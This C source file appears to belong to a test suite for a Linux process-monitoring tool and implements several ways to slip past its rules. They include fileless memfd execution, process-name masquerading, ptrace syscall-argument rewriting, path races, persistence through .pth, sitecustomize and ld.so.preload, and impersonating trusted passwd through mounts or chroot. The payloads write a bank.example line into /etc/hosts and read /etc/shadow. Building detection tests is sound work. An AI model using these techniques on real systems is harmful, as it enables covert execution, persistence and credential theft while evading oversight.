// SPDX-License-Identifier: Apache-2.0
// Ways to run a program that rules on programs do not know. What runs then edits the hosts file.
#include "technique.h"
#include <elf.h>
#include <pthread.h>
#include <spawn.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>

static int victim_of_race; // X7

static void just_edit(void)
{
	edit_path(HOSTS);
}

// What the disguised program does: this same file, started again as `anything X0-edit`.
#define AGAIN(name) ((char *[]){(name), "X0-edit", 0})

static void copy(const char *path, int to)
{
	char page[65536];
	int from = must(open(path, O_RDONLY), "open");
	for (ssize_t n; (n = must(read(from, page, sizeof(page)), "read")) > 0;)
		must(write(to, page, n), "write");
	close(from);
}

static void copy_self(int to)
{
	copy("/proc/self/exe", to);
}

static void copy_self_to(const char *path)
{
	int to = must(open(path, O_WRONLY | O_CREAT, 0700), "create");
	copy_self(to);
	close(to);
}

// X1, X2: no file --------------------------------------------------------------------------------

static void from_memory(void)
{
	int fd = must(memfd_create("x", MFD_CLOEXEC), "memfd_create");
	copy_self(fd);
	must(syscall(SYS_execveat, fd, "", AGAIN("x"), environ, AT_EMPTY_PATH), "execveat");
}

static void from_memory_by_path(void)
{
	char path[64];
	int fd = must(memfd_create("x", 0), "memfd_create");
	copy_self(fd);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	must(execv(path, AGAIN("x")), "execv");
}

static void from_an_unlinked_file(void)
{
	copy_self_to("gone");
	int fd = must(open("gone", O_RDONLY | O_CLOEXEC), "open");
	must(unlink("gone"), "unlink");
	must(syscall(SYS_execveat, fd, "", AGAIN("gone"), environ, AT_EMPTY_PATH), "execveat");
}

// X3, X4: somebody else is the program -----------------------------------------------------------

static void by_dynamic_linker(void)
{
	must(execl("/lib64/ld-linux-x86-64.so.2", "ld.so", "/bin/sh", "-c",
		   "echo '" LINE "' >> " HOSTS "; echo done; : > \"$CANARY\"", (char *)0), "execl");
}

static void by_script_on_stdin(void)
{
	int pipes[2];
	const char *script = "echo '127.0.0.1 bank.example' >> /etc/hosts; echo done; : > \"$CANARY\"\n";

	must(pipe(pipes), "pipe");
	must(write(pipes[1], script, strlen(script)), "write");
	must(dup2(pipes[0], 0), "dup2");
	close(pipes[1]);
	must(execl("/bin/sh", "sh", (char *)0), "execl");
}

// X5: another name -------------------------------------------------------------------------------

static void as_a_copy(void)
{
	copy_self_to("node");
	prctl(PR_SET_NAME, "kworker/0:1");
	must(execv("node", AGAIN("/usr/sbin/cron")), "execv");
}

// `secret-tool`, the stand-in of a keeper of secrets, is told by its name.
#define ASKED "lookup", "service", "mail", 0

static void ask_in_child(const char *program, char *const argv[])
{
	pid_t child = must(fork(), "fork");
	if (!child) {
		execv(program, argv);
		must(-1, "execv");
	}
	waitpid(child, 0, 0);
}

static void copied_keeper(void)
{
	must(rename("secret-tool", "st"), "rename");
	ask_in_child("st", (char *[]){"st", ASKED});
}

static void keeper_from_memory(void)
{
	char path[64];
	int fd = must(memfd_create("x", 0), "memfd_create");
	copy("secret-tool", fd);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	ask_in_child(path, (char *[]){"x", ASKED});
}

static void keeper_by_dynamic_linker(void)
{
	ask_in_child("/lib64/ld-linux-x86-64.so.2", (char *[]){"ld.so", "./secret-tool", ASKED});
}

// X6: births that a table of pids gets wrong -----------------------------------------------------

static void by_vfork(void)
{
	pid_t child = vfork();
	if (!child) {
		execv("/proc/self/exe", AGAIN("x"));
		_exit(1);
	}
	waitpid(child, 0, WNOHANG);
	usleep(50000);
}

static void by_spawn(void)
{
	pid_t child;
	errno = posix_spawn(&child, "/proc/self/exe", 0, 0, AGAIN("x"), environ);
	must(errno ? -1 : 0, "posix_spawn");
	usleep(50000);
}

static void *exec_here(void *nothing)
{
	execv("/proc/self/exe", AGAIN("x"));
	return nothing;
}

static void from_a_thread(void)
{
	pthread_t thread; // it becomes the leader: its own pid ends, the process goes on
	must((errno = pthread_create(&thread, 0, exec_here, 0)) ? -1 : 0, "pthread_create");
	pthread_join(thread, 0);
}

static void by_a_chain(void)
{
	int left = getenv("LEFT") ? number("LEFT") : 30;
	char text[16];

	if (!left)
		return just_edit();
	snprintf(text, sizeof(text), "%d", left - 1);
	setenv("LEFT", text, 1);
	must(execl("/proc/self/exe", "x", "X6-chain", (char *)0), "execl");
}

// X7: the argument is another one when it is looked at -------------------------------------------

static char raced[64] = HOSTS;

static void *flip(void *nothing)
{
	while (!__atomic_load_n(&victim_of_race, __ATOMIC_RELAXED)) {
		memcpy(raced, "/etc/hxsts", 10);
		memcpy(raced, HOSTS, 10);
	}
	memcpy(raced, "/etc/hxsts", 10); // what is read afterwards is harmless
	return nothing;
}

static void race(int (*act)(void))
{
	struct stat before, now;
	pthread_t thread;

	put_file("/etc/hxsts", "");
	must(stat(HOSTS, &before), "stat");
	must((errno = pthread_create(&thread, 0, flip, 0)) ? -1 : 0, "pthread_create");
	for (int i = 0; i < 20000; i++) {
		if (!act())
			continue;
		if (stat(HOSTS, &now) || now.st_ino != before.st_ino || now.st_size != before.st_size)
			break;
	}
	victim_of_race = 1;
	pthread_join(thread, 0);
}

static int rename_raced(void)
{
	int fd = open("/etc/.new", O_WRONLY | O_CREAT, 0600);
	if (fd < 0 || write(fd, LINE, strlen(LINE)) < 0)
		return 0;
	close(fd);
	return !rename("/etc/.new", raced);
}

static int open_raced(void)
{
	int fd = open(raced, O_WRONLY | O_APPEND);
	if (fd < 0)
		return 0;
	int wrote = write(fd, LINE, strlen(LINE)) > 0;
	close(fd);
	return wrote;
}

static void racing_rename(void) { race(rename_raced); }
static void racing_open(void) { race(open_raced); }

static void open_the_harmless(void)
{
	must(ptrace(PTRACE_TRACEME, 0, 0, 0), "ptrace");
	raise(SIGSTOP);
	edit(must(syscall(SYS_openat, AT_FDCWD, "/etc/hxsts", O_WRONLY | O_APPEND), "openat"));
	_exit(0);
}

// A tracer needs no race: it is asked before the kernel looks at the argument, and after.
static void changed_by_a_tracer(void)
{
	struct user_regs_struct registers;
	int status, changed = 0;

	put_file("/etc/hxsts", "");
	pid_t child = must(fork(), "fork");
	if (!child)
		open_the_harmless();
	while (waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
		must(ptrace(PTRACE_GETREGS, child, 0, &registers), "ptrace");
		if (registers.orig_rax == SYS_openat && WSTOPSIG(status) == SIGTRAP && !changed++) {
			registers.rsi = (uintptr_t)HOSTS; // it lies there in the child as well
			must(ptrace(PTRACE_SETREGS, child, 0, &registers), "ptrace");
		}
		ptrace(PTRACE_SYSCALL, child, 0, 0); // and no signal reaches it
	}
}

// X8: code that an honest program loads ----------------------------------------------------------

static void by_startup_file(void)
{
	// sh reads $ENV where it is interactive: the same way .pth files, sitecustomize and LD_PRELOAD go.
	put_file("startup", "echo '127.0.0.1 bank.example' >> /etc/hosts; echo done; : > \"$CANARY\"\n");
	setenv("ENV", in("WORK", "startup"), 1);
	must(execl("/bin/sh", "sh", "-i", "-c", "true", (char *)0), "execl");
}

#define USER_SITE ".local/lib/python3.11/site-packages/"

static void by_site_customize(void)
{
	put_file(in("HOME", USER_SITE "sitecustomize.py"), "import os\n");
}

static void by_path_file(void)
{
	put_file(in("HOME", USER_SITE "update.pth"), "import os\n");
}

static void by_known_path_file(void)
{
	put_file(in("HOME", USER_SITE "distutils-precedence.pth"), "import os\n");
}

static void by_system_preload(void)
{
	put_file("/etc/ld.so.preload", "/tmp/none.so\n");
}

// X9, X10: a program that rules forgive -----------------------------------------------------------

#define FORGIVEN "/usr/bin/passwd"

static void just_read(void)
{
	take(must(open("/etc/shadow", O_RDONLY), "open"));
}

static void run_forgiven(void)
{
	must(execl(FORGIVEN, "passwd", "X0-read", (char *)0), "execl");
}

static void in_own_mounts(void)
{
	must(unshare(CLONE_NEWNS), "unshare");
	must(mount(0, "/", 0, MS_REC | MS_PRIVATE, 0), "mount private");
}

static void mounted_over(void)
{
	char own[4096] = "";
	must(readlink("/proc/self/exe", own, sizeof(own) - 1), "readlink");
	in_own_mounts();
	must(mount(own, FORGIVEN, 0, MS_BIND, 0), "mount");
	run_forgiven();
}

static void mounted_over_from_nowhere(void)
{
	in_own_mounts();
	must(mount("none", "/usr/bin", "tmpfs", 0, 0), "mount");
	copy_self_to(FORGIVEN);
	run_forgiven();
}

static void below_own_root(void)
{
	must(chdir(".."), "chdir");
	must(mkdir("usr", 0755), "mkdir");
	must(mkdir("usr/bin", 0755), "mkdir");
	copy_self_to("." FORGIVEN);
	must(chroot("."), "chroot");
	unsetenv("GATE"); // which is open, and nowhere to be seen from here
	run_forgiven();
}

static void loaded_by(const char *variable)
{
	must(setenv(variable, given("LIBRARY"), 1), "setenv");
	run_forgiven(); // it goes no further than loaded/reader.c
}

static void by_preload(void) { loaded_by("LD_PRELOAD"); }
static void by_audit(void) { loaded_by("LD_AUDIT"); }

const struct technique techniques[] = {
	{"X0-edit", just_edit},
	{"X0-read", just_read},
	{"X1-memfd", from_memory},
	{"X1-memfd-path", from_memory_by_path},
	{"X1-keeper", keeper_from_memory},
	{"X2-unlinked", from_an_unlinked_file},
	{"X3-linker", by_dynamic_linker},
	{"X3-keeper", keeper_by_dynamic_linker},
	{"X4-stdin", by_script_on_stdin},
	{"X5-copy", as_a_copy},
	{"X5-keeper", copied_keeper},
	{"X6-vfork", by_vfork},
	{"X6-spawn", by_spawn},
	{"X6-thread", from_a_thread},
	{"X6-chain", by_a_chain},
	{"X7-rename", racing_rename},
	{"X7-open", racing_open},
	{"X7-trace", changed_by_a_tracer},
	{"X8-startup", by_startup_file},
	{"X8-site", by_site_customize},
	{"X8-path", by_path_file},
	{"X8-known-path", by_known_path_file},
	{"X8-preload", by_system_preload},
	{"X9-bind", mounted_over},
	{"X9-tmpfs", mounted_over_from_nowhere},
	{"X9-chroot", below_own_root},
	{"X10-preload", by_preload},
	{"X10-audit", by_audit},
	{0},
};
